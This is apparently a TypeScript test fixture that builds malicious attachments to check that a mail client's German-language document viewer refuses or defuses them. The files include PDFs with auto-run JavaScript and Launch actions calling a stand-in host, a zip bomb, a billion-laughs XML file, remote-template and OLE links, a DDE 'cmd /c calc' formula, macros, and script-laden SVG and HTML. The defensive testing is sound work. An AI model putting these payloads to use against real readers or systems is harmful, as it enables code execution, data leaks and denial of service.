import {
  docxOf,
  odfOf,
  pngOf,
  relationsPart,
  xlsxOf,
  zipOf,
} from '../../src/features/mail/page/viewers/office/files.fixture.ts';
import { pdfOf, plainPdf, stream, words } from './pdf.ts';

const EVIL = 'https://zaehler.evil.example/x';
const RAN = 'top.ran=1;parent.ran=1;window.ran=1';

/** A file that was made to do harm, and what a person is to see of it. */
export type Bomb = { name: string; bytes: Uint8Array | Buffer; shows: RegExp };

const REFUSED =
  /lässt sich nicht lesen|zu umfangreich|zu lange gedauert|wird hier nicht gezeigt|mit einem Passwort/;
const hello = words('Guten Tag');
const p = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const PAGE = /von 1/;

function pdfs(): Record<string, Omit<Bomb, 'name'>> {
  const script = `/OpenAction << /S /JavaScript /JS (${RAN}; app.alert\\(1\\); this.getURL\\('${EVIL}'\\)) >> /AA << /WC << /S /JavaScript /JS (app.launchURL\\('${EVIL}'\\)) >> >>`;
  const link = (action: string) =>
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${action} /AA << /PO ${action} >> >>`;
  const actions = [
    `<< /S /URI /URI (${EVIL}) >>`,
    '<< /S /Launch /F (calc.exe) >>',
    `<< /S /GoToR /F << /FS /URL /F (${EVIL}) >> /D [0 /Fit] >>`,
    `<< /S /SubmitForm /F << /FS /URL /F (${EVIL}) >> >>`,
    `<< /S /ImportData /F (${EVIL}) >>`,
  ];
  const loop =
    '<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 10 0 R >> >>';
  const spaces = Buffer.alloc(60_000_000, ' ');
  return {
    'seiten.pdf': {
      bytes: pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Count 2147483647 /Kids [3 0 R] >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
      ]),
      shows: /von \d|lässt sich nicht lesen|zu lange/,
    },
    'kreis.pdf': {
      bytes: pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Count 3 /Kids [2 0 R 2 0 R 2 0 R] /Parent 2 0 R >>',
      ]),
      shows: /lässt sich nicht lesen|zu lange|von \d/,
    },
    'skript.pdf': { bytes: plainPdf({ pages: [hello], catalogue: script }), shows: PAGE },
    'verweise.pdf': {
      bytes: plainPdf({
        pages: [hello],
        catalogue: `/OpenAction ${actions[0]}`,
        page: `/Annots [${actions.map(link).join(' ')}]`,
      }),
      shows: PAGE,
    },
    'entpackt.pdf': {
      bytes: plainPdf({
        pages: [`${hello}/X Do`],
        resources: '/XObject << /X 10 0 R >>',
        more: [stream(spaces, '/Type /XObject /Subtype /Form /BBox [0 0 9 9]', 2)],
      }),
      shows: new RegExp(`${REFUSED.source}|von 1`),
    },
    'schleife.pdf': {
      bytes: plainPdf({
        pages: [`${hello}/X Do`],
        resources: '/XObject << /X 10 0 R >>',
        more: [
          Buffer.concat([
            Buffer.from(`${loop} /Length 5 >>\nstream\n`),
            Buffer.from('/X Do\nendstream'),
          ]),
        ],
      }),
      shows: new RegExp(`${REFUSED.source}|von 1`),
    },
    'riesenbild.pdf': {
      bytes: plainPdf({
        pages: [`${hello}/X Do`],
        resources: '/XObject << /X 10 0 R >>',
        more: [
          stream(
            Buffer.alloc(1_000),
            '/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8',
          ),
        ],
      }),
      shows: PAGE,
    },
    'striche.pdf': {
      bytes: plainPdf({ pages: [hello + '1 2 m 500 800 l S\n'.repeat(300_000)] }),
      shows: new RegExp(`${REFUSED.source}|von 1`),
    },
    'aussen.pdf': {
      bytes: plainPdf({
        pages: [`${hello}/X Do`],
        resources: '/XObject << /X 10 0 R >>',
        more: [
          `<< /Type /XObject /Subtype /Image /Width 9 /Height 9 /F << /FS /URL /F (${EVIL}) >> >>`,
        ],
      }),
      shows: PAGE,
    },
    'muell.pdf': {
      bytes: Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(200_000, '<<[(')]),
      shows: REFUSED,
    },
  };
}

function office(): Record<string, Omit<Bomb, 'name'>> {
  const zeros = Buffer.alloc(100_000_000);
  const laughs = Array.from(
    { length: 9 },
    (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`,
  ).join('');
  const outside = [
    { id: 'r1', type: 'image', target: EVIL, outside: true },
    { id: 'r2', type: 'attachedTemplate', target: `${EVIL}.dotm`, outside: true },
    { id: 'r3', type: 'frame', target: '\\\\evil.example\\x', outside: true },
    { id: 'r4', type: 'oleObject', target: EVIL, outside: true },
    { id: 'r5', type: 'hyperlink', target: `javascript:${RAN}`, outside: true },
  ];
  const drawn = '<w:p><w:r><w:drawing><a:blip r:embed="r1" r:link="r1"/></w:drawing></w:r></w:p>';
  const cells = '<c t="str"><v>=WEBSERVICE("https://evil.example")</v></c>'.repeat(50);
  return {
    'bombe.docx': {
      bytes: docxOf('', [], { 'word/document.xml': zeros }),
      shows: REFUSED,
    },
    'lachen.docx': {
      bytes: docxOf('', [], {
        'word/document.xml': `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]><w:document><w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>`,
      }),
      shows: /lässt sich nicht lesen/,
    },
    'fremd.docx': {
      bytes: docxOf('', [], {
        'word/document.xml': `<!DOCTYPE x SYSTEM "${EVIL}"><w:document/>`,
      }),
      shows: /lässt sich nicht lesen/,
    },
    'quadrat.docx': {
      bytes: docxOf('', [], { 'word/document.xml': `<w:document ${'a '.repeat(5_000_000)}` }),
      shows: REFUSED,
    },
    'offen.docx': {
      bytes: docxOf('', [], { 'word/document.xml': '<!-- '.repeat(5_000_000) }),
      shows: REFUSED,
    },
    'tief.docx': {
      bytes: docxOf(`${'<w:tbl><w:tr><w:tc>'.repeat(100_000)}`),
      shows: REFUSED,
    },
    'aussen.docx': {
      bytes: docxOf(
        `${p('Guten Tag')}${drawn}<w:p><w:hyperlink r:id="r5"><w:r><w:t>drücken</w:t></w:r></w:hyperlink></w:p>`,
        outside,
        { 'word/vbaProject.bin': 'Sub AutoOpen()' },
      ),
      shows: /Das ist unterblieben[\s\S]*Makros|Makros[\s\S]*Das ist unterblieben/,
    },
    'html.docx': {
      bytes: docxOf(p(`&lt;script&gt;${RAN}&lt;/script&gt;&lt;img src=${EVIL} onerror=${RAN}&gt;`)),
      shows: /./,
    },
    'absaetze.docx': {
      bytes: docxOf(p('x').repeat(90_000)),
      shows: /Teil 1 von|zu umfangreich|zu lange/,
    },
    'zellen.xlsx': {
      bytes: xlsxOf(`<row>${cells}</row>`.repeat(30_000)),
      shows: /Zeilen 1 bis|zu umfangreich|zu lange/,
    },
    'makros.xlsx': {
      bytes: xlsxOf('<row r="1"><c r="A1"><f>cmd|"/c calc"!A1</f><v>7</v></c></row>', {
        'xl/vbaProject.bin': 'x',
        'xl/externalLinks/_rels/externalLink1.xml.rels': relationsPart([
          { id: 'r1', type: 'externalLinkPath', target: EVIL, outside: true },
        ]),
      }),
      shows: /Makros/,
    },
    'zeilen.ods': {
      bytes: odfOf(
        'spreadsheet',
        `<table:table table:name="A"><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell></table:table-row></table:table>`,
      ),
      shows: /Ixx|1x/,
    },
    'aussen.odt': {
      bytes: odfOf(
        'text',
        `<text:p>Guten Tag<draw:frame><draw:image xlink:href="${EVIL}"/></draw:frame><text:a xlink:href="vnd.sun.star.script:x">x</text:a></text:p>`,
        { more: { 'Basic/Standard/Module1.xml': 'Sub' } },
      ),
      shows: /Das ist unterblieben/,
    },
    'namen.zip': {
      bytes: zipOf(Object.fromEntries(Array.from({ length: 6_000 }, (_, at) => [`${at}`, '']))),
      shows: /zu umfangreich/,
    },
  };
}

function others(): Record<string, Omit<Bomb, 'name'>> {
  return {
    'riese.png': { bytes: pngOf(200_000, 200_000), shows: /zu umfangreich/ },
    'kaputt.png': {
      bytes: Buffer.concat([Buffer.from(pngOf(900, 900)).subarray(0, 45)]),
      shows: /lässt sich nicht lesen/,
    },
    'bild.svg': {
      bytes: Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg" onload="${RAN}"><script>${RAN}</script><image href="${EVIL}"/></svg>`,
      ),
      shows: /<svg xmlns/,
    },
    'seite.html': {
      bytes: Buffer.from(`<script>${RAN}</script><img src="${EVIL}">`),
      shows: /<script>/,
    },
    'zeile.txt': { bytes: Buffer.alloc(3_000_000, 'x'), shows: /Hier steht sein Anfang/ },
    'umbruch.txt': { bytes: Buffer.alloc(3_000_000, '\n'), shows: /Hier steht sein Anfang/ },
    'tabelle.csv': { bytes: Buffer.alloc(4_000_000, '"a",'), shows: /1aaa/ },
    'offen.csv': { bytes: Buffer.alloc(4_000_000, '"'), shows: /./ },
    'programm.exe': {
      bytes: Buffer.from('MZ\x90\x00\x03\x00\x00'),
      shows: /wird hier nicht gezeigt/,
    },
  };
}

/** All of them. Made when they are asked for: they are large until they are packed. */
export function bombs(): Bomb[] {
  return Object.entries({ ...pdfs(), ...office(), ...others() }).map(([name, bomb]) => ({
    name,
    ...bomb,
  }));
}
